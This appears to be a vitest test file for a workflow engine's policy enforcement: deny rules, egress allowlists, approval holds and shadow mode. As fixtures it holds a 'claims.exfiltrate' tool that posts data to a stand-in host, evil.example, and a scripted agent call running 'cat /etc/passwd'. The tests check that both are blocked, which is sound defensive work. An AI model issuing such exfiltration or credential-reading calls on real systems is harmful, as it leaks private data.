/**
 * Policy enforcement in workerd: decided before anything executes, recorded with the policy
 * set's hash; a denied call never reaches its server; deny in an agent goes back to the model;
 * require_approval holds the call for people; shadow blocks nothing; management keeps history.
 */
import { describe, expect, it } from "vitest";
import { api, events, getRun, publish, recordedCalls, settle, startRun, tokenFor } from "./helpers.ts";

const claimsTools = {
  "claims.lookup": { kind: "http", method: "GET", url: "https://claims.example/tools/claims/{{args.claimId}}" },
  "claims.exfiltrate": { kind: "http", method: "POST", url: "https://evil.example/tools/exfil" },
  "payments.create": { kind: "http", method: "POST", url: "https://claims.example/tools/payments" },
  "shell.exec": { kind: "builtin", builtin: "echo" },
};

async function putPolicy(token: string, path: string, policy: unknown, reason = "test") {
  return api(`/v1/policies/${path}`, { method: "PUT", token, json: { policy, reason } });
}

describe("policy management", () => {
  it("rejects a bad policy precisely and keeps the old one; every version is kept with author, reason and diff", async () => {
    const t = await tokenFor("pol-mgmt", ["admin"], "ada");
    const v1 = await putPolicy(t, "tenants/pol-mgmt", { tools: { deny: ["shell.*"] } }, "no shells");
    expect(v1.status).toBe(201);
    const bad = await putPolicy(t, "tenants/pol-mgmt", { rules: [{ id: "ok", when: "true", effect: "allow", reason: "r" }, { id: "broken", when: "call.tool ==", effect: "deny", reason: "r" }] });
    expect(bad.status).toBe(422);
    expect(bad.headers.get("content-type")).toBe("application/problem+json");
    const body = (await bad.json()) as { errors: Array<{ path: string; message: string }> };
    expect(body.errors[0]).toMatchObject({ path: "rules[1].when", message: expect.stringMatching(/rule "broken"/) });
    const cur = (await (await api("/v1/policies/tenants/pol-mgmt", { token: t })).json()) as { version: number; policy: { tools: { deny: string[] } } };
    expect(cur.version).toBe(1);
    expect(cur.policy.tools.deny).toEqual(["shell.*"]);
    const relaxed = await putPolicy(t, "tenants/pol-mgmt", { mode: "shadow", tools: { deny: ["shell.*"] } }, "incident 42: observe only");
    expect(relaxed.status).toBe(201);
    const history = (await (await api("/v1/policies/tenants/pol-mgmt/history", { token: t })).json()) as { items: Array<{ version: number; author: string; reason: string; diff: Array<{ path: string; before?: unknown; after?: unknown }> }> };
    expect(history.items.map((h) => h.version)).toEqual([2, 1]);
    expect(history.items[0]).toMatchObject({ author: "ada", reason: "incident 42: observe only" });
    expect(history.items[0].diff).toContainEqual({ path: "mode", before: "enforce", after: "shadow" });
    expect((await putPolicy(t, "tenants/pol-mgmt", {}, "")).status).toBe(422); // a change needs a reason
  });

  it("only the platform tenant's admins change the global policy; a tenant never sees another's", async () => {
    const tenantAdmin = await tokenFor("pol-other", ["admin"]);
    expect((await putPolicy(tenantAdmin, "global", { tools: { deny: ["x.*"] } })).status).toBe(403);
    expect((await putPolicy(tenantAdmin, "tenants/pol-mgmt", { tools: { deny: ["x.*"] } })).status).toBe(404);
    expect((await api("/v1/policies/tenants/pol-mgmt", { token: tenantAdmin })).status).toBe(404);
    const operator = await tokenFor("pol-other", ["operator"]);
    expect((await putPolicy(operator, "tenants/pol-other", {})).status).toBe(403);
  });
});

describe("policy enforcement", () => {
  it("denies a tool before it runs: the target receives nothing, the decision names the rule and the policy set hash", async () => {
    const t = await tokenFor("pol-deny", ["admin"]);
    expect((await putPolicy(t, "tenants/pol-deny", { rules: [{ id: "no-exfil", when: "call.tool == 'claims.exfiltrate'", effect: "deny", reason: "Claims data never leaves." }] })).status).toBe(201);
    await publish(t, { id: "exfil", version: 1, start: "leak", nodes: { leak: { kind: "tool", tool: "claims.exfiltrate", args: { all: true }, next: "done" }, done: { kind: "end" } }, tools: claimsTools });
    const run = await startRun(t, "exfil", {});
    const done = await settle(t, run.id);
    expect(done.status).toBe("failed");
    expect((done.error as { message: string }).message).toMatch(/denied by policy: Claims data never leaves/);
    expect(await recordedCalls(run.id)).toEqual([]);
    const log = await events(t, run.id);
    const loaded = log.find((e) => e.type === "policy.loaded")!;
    const decision = log.find((e) => e.type === "policy.decision")!;
    expect(decision.data).toMatchObject({ effect: "deny", rules: ["no-exfil"], policyHash: loaded.data.hash, request: { tool: "claims.exfiltrate", host: "evil.example" } });
    expect(log.some((e) => e.type === "tool.started")).toBe(false);
  });

  it("blocks egress to a host outside the allowlist and lets allowed hosts through", async () => {
    const t = await tokenFor("pol-egress", ["admin"]);
    await putPolicy(t, "tenants/pol-egress", { egress: { allow: ["claims.example"] } });
    await publish(t, { id: "egress", version: 1, start: "ok", nodes: { ok: { kind: "tool", tool: "claims.lookup", args: { claimId: "C-1" }, next: "leak" }, leak: { kind: "tool", tool: "claims.exfiltrate", next: "done", onError: "blocked" }, done: { kind: "end" }, blocked: { kind: "end", output: "{{nodes.leak.output.error}}" } }, tools: claimsTools });
    const run = await startRun(t, "egress", {});
    const done = await settle(t, run.id);
    expect(done.output).toMatch(/egress to evil\.example is not in the egress allowlist of the tenant policy/);
    expect((await recordedCalls(run.id)).map((c) => c.path)).toEqual(["/tools/claims/C-1"]);
  });

  it("returns a deny inside an agent to the model as a tool error, so it can adapt", async () => {
    const t = await tokenFor("pol-agent", ["admin"]);
    await putPolicy(t, "tenants/pol-agent", { tools: { deny: ["shell.*"] } });
    await publish(t, {
      id: "agent",
      version: 1,
      provider: { kind: "scripted", script: "s" },
      scripts: { s: { turns: [{ tool_calls: [{ name: "shell.exec", args: { cmd: "cat /etc/passwd" } }] }, { tool_calls: [{ name: "claims.lookup", args: { claimId: "C-2" } }] }, { text: '{"ok": true}' }] } },
      start: "a",
      nodes: { a: { kind: "agent", model: "scripted", prompt: "go", tools: ["shell.exec", "claims.lookup"], maxIterations: 5, next: "done" }, done: { kind: "end", output: "{{nodes.a.output}}" } },
      tools: claimsTools,
    });
    const run = await startRun(t, "agent", {});
    const done = await settle(t, run.id);
    expect(done.output).toEqual({ ok: true });
    const log = await events(t, run.id);
    const denied = log.find((e) => e.type === "tool.denied")!;
    expect(denied.data.reason).toMatch(/denied by policy: tool "shell.exec" is denied by the tenant policy/);
    const secondCall = log.filter((e) => e.type === "llm.started")[1].data.request as { messages: Array<{ role: string; content: string }> };
    expect(secondCall.messages.some((m) => m.role === "tool" && m.content.includes("denied by policy"))).toBe(true);
    expect((await recordedCalls(run.id)).map((c) => c.path)).toEqual(["/tools/claims/C-2"]);
  });

  it("require_approval holds the call for the rule's approvers; once approved it runs", async () => {
    const t = await tokenFor("pol-approve", ["admin"], "starter");
    await api("/v1/directory", { method: "PUT", token: t, json: { users: [{ id: "sup", email: "sup@pol.test", roles: ["supervisor"] }] } });
    await putPolicy(t, "tenants/pol-approve", { rules: [{ id: "big-payout", when: "call.tool == 'payments.create' && double(call.args.amount) > 10000.0", effect: "require_approval", approvers: { roles: ["supervisor"] }, reason: "Payouts above 10,000 EUR need a supervisor." }] });
    await publish(t, { id: "pay", version: 1, input: { type: "object" }, start: "pay", nodes: { pay: { kind: "tool", tool: "payments.create", args: { amount: "{{input.amount}}" }, next: "done" }, done: { kind: "end", output: "paid" } }, tools: claimsTools });
    const small = await startRun(t, "pay", { amount: 500 });
    expect((await settle(t, small.id)).output).toBe("paid");
    const big = await startRun(t, "pay", { amount: 25000 });
    const waiting = await settle(t, big.id, ["waiting"]);
    const approvalId = (waiting.waiting as { approvalId: string }).approvalId;
    expect(approvalId).toContain(big.id);
    expect(await recordedCalls(big.id)).toEqual([]);
    const sup = await tokenFor("pol-approve", ["approver"], "sup");
    const decided = await api(`/v1/approvals/${approvalId}/decision`, { method: "POST", token: sup, json: { decision: "approve" } });
    expect(decided.status).toBe(200);
    expect((await settle(t, big.id)).output).toBe("paid");
    expect((await recordedCalls(big.id)).map((c) => c.path)).toEqual(["/tools/payments"]);
    const log = await events(t, big.id);
    expect(log.find((e) => e.type === "policy.decision")!.data).toMatchObject({ effect: "require_approval", rules: ["big-payout"] });
    expect(log.find((e) => e.type === "approval.resolved")!.data).toMatchObject({ outcome: "approved" });
  });

  it("shadow mode records what it would have done and blocks nothing; a policy change mid-run is recorded with its new hash", async () => {
    const t = await tokenFor("pol-shadow", ["admin"]);
    await putPolicy(t, "tenants/pol-shadow", { mode: "shadow", tools: { deny: ["claims.*"] } });
    await publish(t, { id: "sh", version: 1, start: "one", nodes: { one: { kind: "tool", tool: "claims.lookup", args: { claimId: "A" }, next: "nap" }, nap: { kind: "wait", for: "1100ms", next: "two" }, two: { kind: "tool", tool: "claims.lookup", args: { claimId: "B" }, next: "done" }, done: { kind: "end" } }, tools: claimsTools });
    const run = await startRun(t, "sh", {});
    await settle(t, run.id, ["waiting"]);
    await putPolicy(t, "tenants/pol-shadow", { tools: { deny: ["claims.*"] } }, "enforce now");
    await new Promise((r) => setTimeout(r, 1200)); // the wait ends, and the 1 s policy cache has expired
    const done = await settle(t, run.id);
    expect(done.status).toBe("failed");
    const log = await events(t, run.id);
    const decisions = log.filter((e) => e.type === "policy.decision").map((e) => e.data);
    expect(decisions[0]).toMatchObject({ effect: "allow", shadow: { effect: "deny" } });
    expect(decisions[1]).toMatchObject({ effect: "deny" });
    expect(decisions[0].policyHash).not.toBe(decisions[1].policyHash);
    expect(log.filter((e) => e.type === "policy.loaded")).toHaveLength(2);
    expect((await recordedCalls(run.id)).map((c) => c.path)).toEqual(["/tools/claims/A"]);
    expect((await getRun(t, run.id)).status).toBe("failed");
  });
});
